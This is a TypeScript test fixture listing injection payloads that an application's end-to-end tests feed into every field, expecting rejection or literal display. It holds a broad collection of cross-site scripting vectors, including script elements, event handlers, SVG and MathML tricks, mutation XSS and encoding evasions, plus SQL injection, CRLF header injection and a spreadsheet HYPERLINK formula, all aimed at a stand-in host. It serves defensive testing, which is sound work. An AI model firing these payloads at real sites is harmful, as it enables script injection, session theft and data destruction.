/**
 * Injection vectors, a list of our own modelled on the well-known ones. A vector that runs calls `hostile(1)` or
 * requests `https://hostile.invalid/`; tests watch both (tests/e2e/hostile-content.full.test.ts). They are put into every
 * field, through the API and by pasting, and must be rejected or shown literally.
 */

/** Elements that execute by themselves. */
const ELEMENTS = [
  '<script>hostile(1)</script>',
  '<ScRiPt>hostile(1)</sCrIpT>',
  '<script src=https://hostile.invalid/x.js></script>',
  '<script type=module>hostile(1)</script>',
  '<script\t>hostile(1)</script\n>',
  '<script/x>hostile(1)</script>',
  '<<script>hostile(1);//<</script>',
  '<scr<script>ipt>hostile(1)</scr</script>ipt>',
  '</script><script>hostile(1)</script>',
  '</title><script>hostile(1)</script>',
  '</textarea><script>hostile(1)</script>',
  '</style><script>hostile(1)</script>',
  '</template><script>hostile(1)</script>',
  '</noscript><script>hostile(1)</script>',
  '--><script>hostile(1)</script>',
  ']]><script>hostile(1)</script>',
  '<iframe srcdoc="<script>parent.hostile(1)</script>"></iframe>',
  '<iframe src="javascript:parent.hostile(1)"></iframe>',
  '<iframe src="https://hostile.invalid/frame"></iframe>',
  '<object data="javascript:hostile(1)"></object>',
  '<object data="data:text/html,<script>parent.hostile(1)</script>"></object>',
  '<embed src="javascript:hostile(1)">',
  '<embed src="data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKDEpPC9zY3JpcHQ+">',
  '<base href="https://hostile.invalid/">',
  '<link rel=stylesheet href="https://hostile.invalid/x.css">',
  '<link rel=preload as=script href="https://hostile.invalid/x.js">',
  '<meta http-equiv=refresh content="0;url=https://hostile.invalid/">',
  '<meta http-equiv=refresh content="0;url=javascript:hostile(1)">',
  '<form action="https://hostile.invalid/"><button autofocus>送信</button></form>',
  '<portal src="https://hostile.invalid/">',
  '<applet code="x" archive="https://hostile.invalid/x.jar"></applet>',
]

/** Attributes that execute on load, error, focus, move or open. */
const ATTRIBUTES = [
  '<img src=x onerror=hostile(1)>',
  '<img src=x onerror="hostile`1`">',
  '<img src=x:x onerror=hostile(1) //',
  '<IMG """><SCRIPT>hostile(1)</SCRIPT>">',
  '<img/src=x/onerror=hostile(1)>',
  '<img src=https://hostile.invalid/pixel.gif>',
  '<img srcset="https://hostile.invalid/a.png 1x">',
  '<image src=x onerror=hostile(1)>',
  '<video src=x onerror=hostile(1)></video>',
  '<video><source onerror=hostile(1)></video>',
  '<audio src=x onerror=hostile(1)></audio>',
  '<video poster="https://hostile.invalid/poster.png"></video>',
  '<body onload=hostile(1)>',
  '<input autofocus onfocus=hostile(1)>',
  '<input type=image src=x onerror=hostile(1)>',
  '<select autofocus onfocus=hostile(1)></select>',
  '<details open ontoggle=hostile(1)><summary>開く</summary></details>',
  '<marquee onstart=hostile(1)>流れる</marquee>',
  '<div onpointerenter=hostile(1) style="position:fixed;inset:0">触れる</div>',
  '<div contenteditable autofocus onfocus=hostile(1)>書く</div>',
  '<div popover id=p onbeforetoggle=hostile(1)>開く</div><button popovertarget=p>開く</button>',
  '<x onanimationstart=hostile(1) style="animation:x">x</x>',
  '<x tabindex=1 onfocus=hostile(1) autofocus>x</x>',
  '" onmouseover="hostile(1)" x="',
  "' onfocus='hostile(1)' autofocus='",
  '"><img src=x onerror=hostile(1)>',
  "'><img src=x onerror=hostile(1)>",
  '`><img src=x onerror=hostile(1)>',
  '" autofocus onfocus="hostile(1)',
  '"/style="animation-name:x"/onanimationstart="hostile(1)',
]

/** SVG and MathML: different parsing rules inside the page. */
const FOREIGN = [
  '<svg onload=hostile(1)>',
  '<svg><script>hostile(1)</script></svg>',
  '<svg><script>hostile&#40;1&#41;</script></svg>',
  '<svg><script href="https://hostile.invalid/x.js"/></svg>',
  '<svg><a xlink:href="javascript:hostile(1)"><text y=20>押す</text></a></svg>',
  '<svg><animate onbegin=hostile(1) attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover to=hostile(1)>',
  '<svg><a><animate attributeName=href values=javascript:hostile(1) /><text y=20>押す</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hostile(1)</script></svg>#x"/></svg>',
  '<svg><image href="https://hostile.invalid/x.png" onerror=hostile(1)></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.hostile(1)</script>"></iframe></foreignObject></svg>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:hostile(1)">押す</maction></math>',
  '<math href="javascript:hostile(1)">押す</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=hostile(1)></annotation-xml></math>',
]

/** Mutation XSS: harmless until parsed, serialised and parsed again. */
const MUTATIONS = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hostile(1)&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=hostile(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=hostile(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hostile(1)>',
  '<select><template><img src=x onerror=hostile(1)></template></select>',
  '<template shadowrootmode=open><img src=x onerror=hostile(1)></template>',
  '<table><td background="https://hostile.invalid/x.png">',
  '<listing>&lt;img src=x onerror=hostile(1)&gt;</listing>',
  '<xmp><p title="</xmp><img src=x onerror=hostile(1)>">',
  '<!--><img src=x onerror=hostile(1)>-->',
  '<!--><!--!><img src=x onerror=hostile(1)>',
  '<![CDATA[><img src=x onerror=hostile(1)>]]>',
  '<?xml ><img src=x onerror=hostile(1)>',
  '<a href="x" title="&quot;><img src=x onerror=hostile(1)>">x</a>',
  '<p title="`onmouseover=hostile(1) ">x</p>',
]

/** Style sheets that load external resources or, in old browsers, execute. */
const STYLES = [
  '<style>@import "https://hostile.invalid/x.css";</style>',
  '<style>body{background:url(https://hostile.invalid/x.png)}</style>',
  '<div style="background:url(https://hostile.invalid/x.png)">x</div>',
  '<div style="background:url(javascript:hostile(1))">x</div>',
  '<div style="width:expression(hostile(1))">x</div>',
  '<div style="-moz-binding:url(https://hostile.invalid/x.xml#x)">x</div>',
  '</style><style>*{display:none!important}</style>',
  'x;}</style><script>hostile(1)</script>',
  'url(https://hostile.invalid/x.png)',
  '50%;background:url(https://hostile.invalid/x.png)',
]

/** Template syntax, and breakouts from scripts, JSON-LD and payloads. */
const TEMPLATES = [
  '{{constructor.constructor("hostile(1)")()}}',
  '$' + '{hostile(1)}',
  '#{hostile(1)}',
  '<%= hostile(1) %>',
  '{{{html}}}<img src=x onerror=hostile(1)>',
  "';hostile(1);//",
  '";hostile(1);//',
  '`;hostile(1);//',
  '\\";hostile(1);//',
  "\\';hostile(1);//",
  '*/hostile(1);/*',
  '\u2028hostile(1)\u2029//',
  '{"@type":"Thing","name":"</script><script>hostile(1)</script>"}',
  '<!--<script>hostile(1)</script>-->',
  '<!--<script>',
  '[押す](javascript:hostile(1))',
  '![x](x"onerror="hostile(1))',
  '=HYPERLINK("https://hostile.invalid/","押す")',
  '\r\nSet-Cookie: hostile=1\r\n\r\n<script>hostile(1)</script>',
  "'; DROP TABLE manuscripts; --",
  "%' OR 1=1 --",
]

/** Entities, encodings and look-alike characters. */
const DISGUISES = [
  '&lt;script&gt;hostile(1)&lt;/script&gt;',
  '&#60;img src=x onerror=hostile(1)&#62;',
  '&#x3c;img src=x onerror=hostile(1)&#x3e;',
  '&amp;lt;img src=x onerror=hostile(1)&amp;gt;',
  '%3Cscript%3Ehostile(1)%3C/script%3E',
  '\\u003cscript\\u003ehostile(1)\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=hostile(1)\\x3e',
  '+ADw-script+AD4-hostile(1)+ADw-/script+AD4-',
  '＜script＞hostile(1)＜/script＞',
  '‹img src=x onerror=hostile(1)›',
  '<\u0000script>hostile(1)</script>',
  '<scr\u0000ipt>hostile(1)</scr\u0000ipt>',
  '<img src=x o\u0000nerror=hostile(1)>',
  '<img\u000csrc=x\u000conerror=hostile(1)>',
  '<img src=x onerror\u3000=hostile(1)>',
  '<ſcript>hostile(1)</ſcript>',
  '\u202e>)1(elitsoh=rorreno x=crs gmi<',
  '\u2066<img src=x onerror=hostile(1)>\u2069',
  '\ufeff<script>hostile(1)</script>',
  '\u200b<\u200bscript>hostile(1)</script>',
  '\ud83d\ude00<img src=x onerror=hostile(1)>',
  'か\u3099<img src=x onerror=hostile(1)>ﾊﾟ',
]

/** Names of built-in object properties. */
const NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'then', 'toJSON']

/** Oversized text. */
const HUGE = [
  `${'<b>'.repeat(400)}<img src=x onerror=hostile(1)>`,
  `${'あ'.repeat(1500)}<script>hostile(1)</script>`,
  `${'\u0301'.repeat(500)}<img src=x onerror=hostile(1)>`,
]

export const HOSTILE_TEXTS: readonly string[] = [
  ...ELEMENTS,
  ...ATTRIBUTES,
  ...FOREIGN,
  ...MUTATIONS,
  ...STYLES,
  ...TEMPLATES,
  ...DISGUISES,
  ...NAMES,
  ...HUGE,
]
